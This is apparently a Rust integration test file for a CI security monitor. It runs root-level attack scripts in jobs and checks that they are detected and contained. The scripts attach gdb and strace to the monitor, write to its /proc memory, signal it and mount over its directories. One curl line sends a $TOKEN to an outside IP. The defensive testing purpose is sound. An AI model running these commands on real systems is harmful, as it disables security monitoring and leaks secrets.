//! ATTACKS.md, P3 and P4: root in the job goes for the monitor's memory, its process and its directories.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{DetectionEvent, DetectionType, EventKind, RecordedDetection};
use portcullis_common::policy::LockdownDetection;
use portcullis_tests::gate::{Gate, root_step};
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{JobOutcome, World};

const LOCKDOWN: &str = "
name: gate
egress-policy: block
allowed-endpoints: [ok.test:443]
lockdown-mode:
  enabled: true
  detections: [Runner-Worker-Memory-Read]
attach:
  - repository: octo/hello
";

fn detections(gate: &Gate, wanted: DetectionType) -> Result<Vec<DetectionEvent>> {
    let events = gate.final_events()?;
    let found = events.into_iter().filter_map(|event| match event.kind {
        EventKind::Detection(found) if found.detection == wanted => Some(found),
        _ => None,
    });
    Ok(found.collect())
}

/// P3: whoever reaches for the monitor's memory is ended, and so is its job.
#[test]
fn the_monitor_s_memory_is_nobody_s() -> Result<()> {
    let gate = Gate::build(World::builder(), LOCKDOWN, MonitorOptions::default())?;
    let monitor = gate.monitor().pid();
    for attack in [
        format!("gdb -batch -p {monitor} -ex 'info registers' 2>&1"),
        format!("strace -p {monitor} -o /dev/null"),
        format!(
            "python3 -c 'open(\"/proc/{monitor}/mem\",\"rb+\").write(b\"x\")'; ./reader vm-read {monitor} 1 x"
        ),
    ] {
        let script = format!(
            "set +e; cd \"$(mktemp -d)\"; gcc -O1 -w -o reader \"$ATTACKS/memory_reader.c\"; {attack}; sleep 20"
        );
        let mut job = gate.job();
        job.steps = vec![root_step("attack", &script)];
        let result = gate.begin(&job)?.wait()?;
        let wanted = DetectionType::Lockdown(LockdownDetection::RunnerWorkerMemoryRead);
        let found = detections(&gate, wanted)?;
        let first = found.first().with_context(|| format!("{attack}: {}", result.log()))?;
        ensure!(first.is_lockdown && first.evidence.contains("the monitor"), "{first:?}");
        ensure!(first.evidence.contains("before a byte was read"), "{first:?}");
        ensure!(result.worker_exit_code == 128 + 9, "{attack}: {}", result.worker_exit_code);
        // It serves on.
        gate.monitor().status()?;
    }
    Ok(())
}

/// P4: signals to the monitor and mounts over its directories are told with who did it, as far as that is known; what is next
/// to them is nobody's concern, and the gate stays shut.
#[test]
fn signals_and_mounts_are_told() -> Result<()> {
    let gate = Gate::build(World::builder(), LOCKDOWN, MonitorOptions::default())?;
    let monitor = gate.monitor().pid();
    let root = gate.world().root();
    let run = root.join("run/portcullis");
    let script = format!(
        "kill -WINCH {monitor}; python3 -c 'import os,signal; os.kill({monitor}, signal.SIGURG)'\n\
         mkdir -p /tmp/own.$$; mount -t tmpfs none /tmp/own.$$; umount /tmp/own.$$; rmdir /tmp/own.$$\n\
         nsenter -t {monitor} -m mount -t tmpfs none {run}; sleep 0.5; nsenter -t {monitor} -m umount {run}\n\
         curl -sSk --max-time 2 https://203.0.113.66/$TOKEN || true; sleep 0.5",
        run = run.display()
    );
    let mut job = gate.job();
    job.steps = vec![root_step("attack", &script)];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let found = detections(&gate, DetectionType::Recorded(RecordedDetection::MonitorTampering))?;
    for signal in ["SIGWINCH", "SIGURG"] {
        let told = found.iter().find(|found| found.evidence.contains(signal));
        let told = told.with_context(|| format!("{signal}: {found:?}\n{}", result.log()))?;
        let process = told.process.as_ref().context("nobody")?;
        ensure!(process.step.as_deref() == Some("attack"), "{process:?}");
    }
    let mounted: Vec<_> = found.iter().filter(|found| found.evidence.contains("mounted")).collect();
    ensure!(mounted.len() == 1, "{found:?}");
    ensure!(mounted[0].evidence.contains(&run.display().to_string()), "{mounted:?}");
    gate.assert_contained()
}
